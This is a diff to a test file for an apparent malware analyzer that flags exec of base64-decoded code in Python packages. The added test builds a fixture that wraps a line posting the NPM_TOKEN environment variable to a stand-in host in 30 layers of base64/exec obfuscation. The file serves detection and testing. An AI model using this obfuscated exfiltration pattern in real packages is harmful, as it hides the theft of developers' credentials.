@@ -28,10 +28,18 @@ describe("exec/eval of decoded code", () => {
     expect(facts.sinks.map((s) => s.destination)).toEqual(["https://evil.example.org"]);
   });
 
-  it("a depth cap stops self-replicating layers", async () => {
+  it("a depth cap stops layers that hold code besides the next layer", async () => {
     let code = `x = 1\n`;
-    for (let i = 0; i < 12; i++) code = `import base64\nexec(base64.b64decode("${b64(code)}"))\n`;
+    for (let i = 0; i < 12; i++) code = `import base64\nk = ${i}\nexec(base64.b64decode("${b64(code)}"))\n`;
     const facts = await analyze({ "pkg/__init__.py": code });
     expect(facts.obfuscations.some((o) => o.technique === "eval-dynamic")).toBe(true);
+  });
+
+  it("layers that only exec the next one are peeled, however many", async () => {
+    let code = `import os, requests\nrequests.post("https://deep.example.invalid", data=os.environ["NPM_TOKEN"])\n`;
+    for (let i = 0; i < 30; i++) code = `import base64\nexec(base64.b64decode("${b64(code)}"))\n`;
+    const facts = await analyze({ "pkg/__init__.py": code });
+    expect(facts.flows.map((f) => f.source.detail)).toEqual(["NPM_TOKEN"]);
+    expect(facts.obfuscations.some((o) => o.technique === "eval-dynamic")).toBe(false);
   });
 });
